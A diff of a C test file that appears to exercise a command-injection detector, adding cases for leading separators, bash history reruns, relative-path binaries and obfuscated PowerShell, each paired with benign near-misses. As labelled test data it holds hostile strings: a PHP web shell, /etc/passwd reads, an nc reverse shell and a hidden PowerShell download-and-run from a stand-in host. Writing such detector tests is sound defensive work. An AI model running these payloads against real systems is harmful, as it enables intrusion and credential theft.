@@ -143,8 +143,16 @@ static void values_alone(void)
     STRONG("find / -name id_rsa", "find");
     STRONG("echo \"<?php system($_GET[0]); ?>\" > x.php", "echo");
     STRONG("ls -la | grep root", NULL);
-    WEAK("uname -a");
+    /* the whole value a command line: a name no English text uses and
+     * its flags; a word more makes it a search */
+    STRONG("uname -a", "sh:uname");
+    STRONG("netstat -an", "sh:netstat");
+    STRONG("whoami /priv", "whoami");
+    STRONG("ls -la", "sh:ls");
     WEAK("ls -la meaning");
+    WEAK("uname -a output explained");
+    WEAK("tar -xzvf");                       /* tar: also a word */
+    NONE("how to use cat -n");
     NONE("whoami");                          /* a word, nothing around it */
     STRONG("whoami;", "sh:whoami;");
     STRONG("id|", "sh:id|");
@@ -231,6 +239,26 @@ static void windows_cmd(void)
 
 static void powershell(void)
 {
+    /* a name spelled in code points, escaped with backquotes, found by a
+     * pattern; Windows paths and variables that name cmd.exe */
+    STRONG("powershell [char]105+[char]100", "ps:[char]+");
+    STRONG(";iex ([char]119+[char]104+[char]111)", "ps:");
+    STRONG("&([char]105 + [char]101 + [char]120)", "ps:[char]+");
+    NONE("[char]65 in powershell");
+    STRONG(";I`nvoke-Ex`pression whoami", "ps:;invoke-expression");
+    STRONG(";I`E`X (whoami)", "ps:;iex");
+    STRONG("&I`EX(\"whoami\")", "iex");
+    STRONG("abc`id`", "sh:`id");            /* sh's substitution still */
+    STRONG("&(gcm i*x) whoami", "ps:&gcm");
+    STRONG("&(gcm *ke-e*) whoami", "gcm");
+    STRONG("&(Get-Command i?x) id", "get-command");
+    NONE("what does gcm do in powershell");
+    STRONG("&C:\\Windows\\System32\\cmd.exe /c whoami", "whoami");
+    STRONG("&%COMSPEC% /c whoami", "whoami");
+    STRONG("&%SystemRoot%\\system32\\cmd.exe /c ver", "ver");
+    STRONG("&echo %PATH:~0,1%", "cmd:%var:~");
+    STRONG(";$env:ComSpec", "ps:$env:");
+    WEAK("Where is %SystemRoot% on Windows 10?");
     STRONG("& powershell -enc SQBFAFgAIAAoAGkAdwByACkA", "powershell");
     STRONG("powershell -EncodedCommand JABjAGwAaQBlAG4AdAA=", "powershell");
     STRONG("& powershell.exe -nop -w hidden -c \"iex(iwr http://x.example/a)\"", "iex");
@@ -250,6 +278,109 @@ static void sinks(void)
     STRONG("<?php system(\"sleep 10\");?>", "sleep");
     STRONG("<!--#exec cmd=\"/bin/cat /etc/passwd\"-->", "cat");
     STRONG("<!--#EXEC cmd=\"id\" -->", "id");
+}
+
+/* A value that starts with a list operator or a line break, then a
+ * command: even one that is an English word, alone or with a word or two
+ * (no text starts so); a table of words does. */
+static void leading_separator(void)
+{
+    STRONG(";env", "sh:;env");
+    STRONG("; who", "sh:;who");
+    STRONG(";w", "sh:;w");
+    STRONG(";last", "sh:;last");
+    STRONG(";history", "sh:;history");
+    STRONG(";hostname", "hostname");
+    STRONG(";set", ";set");
+    STRONG("|hostname", "|hostname");
+    STRONG("&& env", "sh:&&env");
+    STRONG("|| set", "||set");
+    STRONG("\nenv", "sh:\\nenv");
+    STRONG("\r\nset", "set");
+    STRONG(";last root", "sh:;last");
+    STRONG(";host example.com", "sh:;host");
+    STRONG(";xterm -display 10.0.0.1:1", "sh:;xterm");
+    STRONG(";xhost +", "sh:;xhost");
+    STRONG(";xdotool type id", "sh:;xdotool");
+    STRONG("&psexec64 -s cmd", "psexec64");
+    NONE(";)");
+    NONE(";-)");
+    NONE("; last but not least");           /* a sentence's words */
+    NONE("; set the table");
+    NONE("\nlast week we met");
+    NONE("& more");                         /* left of "Books & more" */
+    NONE("&more");
+    NONE("; Last");                         /* no Unix host runs Last */
+    WEAK("| date | amount |");              /* a Markdown table */
+    WEAK("|date|time|");
+    NONE("Home | History | Contact");
+    NONE("apple;date;fig");
+    NONE("a;env");                          /* a list after a word */
+}
+
+/* bash reruns a command from its history (!!, !-1, !$) or with a quick
+ * substitution (^old^new); $0 is the shell itself, <<< a here-string, '.'
+ * runs a file. */
+static void rerun_and_builtins(void)
+{
+    STRONG(";!-1", "sh:;!history");
+    STRONG(";!!", "sh:;!history");
+    STRONG("|!!", "sh:|!history");
+    STRONG("&&!-2", "!history");
+    STRONG(";!$", "!history");
+    STRONG(";!#", "!history");
+    STRONG("!-1", "sh:!history");
+    STRONG("!$", "sh:!history");
+    STRONG("!-2:p", "sh:!history");
+    STRONG("!!:s/a/b/", "sh:!history");
+    WEAK("!!");                             /* also an exclamation */
+    WEAK("!5");
+    STRONG("^ls^id", "sh:^old^new");
+    STRONG(";^cat^id", "sh:;^old^new");
+    NONE("^_^");
+    NONE("^o^");
+    NONE("^_^;");
+    NONE("!important");
+    NONE("!!!");
+    NONE("Wow!!");
+    NONE("!d12car3ad1ra");
+    NONE("!-1 is not a number here");
+    STRONG(";$0", "sh:;$shell");
+    STRONG("$0 -c id", "sh:-c id");
+    STRONG("$0<<<id", "shell");
+    NONE("$0");                             /* a price */
+    NONE("$0 down payment");
+    STRONG("cat<<<x", "sh:cat");
+    STRONG("bash<<<id", "sh:bash");
+    NONE("<<< Previous");
+    NONE("Read more <<< back");
+    STRONG(". /tmp/x.sh", "sh:.");
+    STRONG(";. /tmp/x", "sh:;.");
+    STRONG("&& . ./x", "sh:&&.");
+    NONE(". /");
+    NONE("Mr. /Mrs.");
+    STRONG(";exec id", "id");
+    STRONG(";eval $x", "eval");
+    STRONG(";timeout 3 cat /etc/passwd", "cat");
+    STRONG(";busybox nc 10.0.0.1 4444 -e sh", "nc");
+}
+
+/* A binary run by a relative path: a file next to the application (./x,
+ * ./x.sh), or a system binary reached by traversal (../../bin/sh). */
+static void relative_paths(void)
+{
+    STRONG(";./x", "sh:;./x");
+    STRONG("|./exploit", "sh:|./x");
+    STRONG("&&./run.sh", "./x");
+    STRONG("`./x`", "./x");
+    STRONG("$(./x)", "./x");
+    STRONG(";../../bin/sh", "sh:;sh");
+    STRONG(";../../../usr/bin/id", "sh:;id");
+    WEAK("../../bin/sh");                   /* a path; the lfi rules' */
+    NONE("./images/logo.png");
+    NONE("see ./docs");
+    NONE("./lib;./vendor");                 /* a list of paths */
+    NONE("a;./index.html");                 /* a page, not a program */
 }
 
 static void benign(void)
@@ -385,6 +516,10 @@ static void plain_gate(void)
     WEAK("Mozilla/5.0 (id)");
     STRONG("x;foo /etc/passwd", "? /path");  /* a system path's first part */
     STRONG("(New-Object Net.WebClient).DownloadString", "ps:");
+    /* words whose pieces only the parse finds: ./x, !-1 */
+    STRONG(";./x", "./x");
+    STRONG("!-1", "!history");
+    NONE("!5 stars");
     STRONG("x;LS /tmp", ";ls");
     STRONG("a; ls -la /", ";ls");
     CHECK(det("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)", &o)
@@ -404,6 +539,9 @@ int main(void)
         return 1;
     }
     separators();
+    leading_separator();
+    rerun_and_builtins();
+    relative_paths();
     substitutions();
     evasions();
     wrappers();
